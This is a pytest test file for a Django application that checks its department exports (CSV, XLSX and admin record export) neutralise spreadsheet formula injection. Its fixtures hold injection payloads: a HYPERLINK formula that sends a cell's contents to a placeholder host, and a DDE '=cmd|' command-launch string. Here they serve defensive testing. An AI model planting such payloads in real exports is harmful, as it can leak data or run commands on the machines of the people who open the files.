"""Department exports (command, back office, admin): no cell is a formula a spreadsheet runs."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from review.admin import BatchCSV, BatchXLSX
from review.models import CriminalRecord
from review.resources import RESOURCES
from tests import factories
from workflow.models import ClaimState

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?q="&C2,"y")'


@pytest.fixture
def decided_claim():
    applicant = factories.ApplicantFactory(name=HYPERLINK)
    return factories.ClaimFactory(
        application=factories.ApplicationFactory(applicant=applicant),
        indicator="law_record",
        state=ClaimState.VERIFIED,
        points=Decimal("-30.00"),
        verified_facts={"detentions": ["2019-05-01"]},
        decision_reason="-1+1 @见附件",
        decided_at=timezone.now(),
    )


def test_the_decisions_csv_neutralises_names_and_reasons_and_keeps_the_points(
    decided_claim, tmp_path
):
    path = tmp_path / "decisions.csv"
    call_command("export_department_claims", "police", "decisions", str(path))
    [header, row] = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
    cells = dict(zip(header, row, strict=True))

    assert cells["姓名"] == "'" + HYPERLINK
    assert cells["审核意见"] == "'-1+1 @见附件"
    assert cells["分值"] == "-30.00"


def test_the_decisions_xlsx_has_text_cells_and_a_numeric_points_cell(decided_claim, tmp_path):
    path = tmp_path / "decisions.xlsx"
    call_command("export_department_claims", "police", "decisions", str(path))
    [header, row] = list(load_workbook(path).active.iter_rows())
    cells = {h.value: c for h, c in zip(header, row, strict=True)}

    assert (cells["姓名"].value, cells["姓名"].data_type) == (HYPERLINK, "s")
    assert (cells["审核意见"].value, cells["审核意见"].data_type) == ("-1+1 @见附件", "s")
    assert (cells["分值"].value, cells["分值"].data_type) == (-30, "n")


def test_the_admins_record_export_neutralises_free_text():
    applicant = factories.ApplicantFactory()
    CriminalRecord.objects.create(
        applicant=applicant,
        record_key="x",
        recorded_on=dt.date(2015, 3, 1),
        description="=cmd|'/c calc'!A1",
        loaded_at=timezone.now(),
    )
    dataset = RESOURCES["criminal_record"](department=factories.department("police")).export(
        CriminalRecord.objects.all()
    )

    rows = list(csv.reader(io.StringIO(BatchCSV().export_data(dataset).decode("utf-8-sig"))))
    assert rows[1][rows[0].index("说明")] == "'=cmd|'/c calc'!A1"
    sheet = load_workbook(io.BytesIO(BatchXLSX().export_data(dataset))).active
    [header, row] = list(sheet.iter_rows())
    cell = row[[h.value for h in header].index("说明")]
    assert (cell.value, cell.data_type) == ("=cmd|'/c calc'!A1", "s")
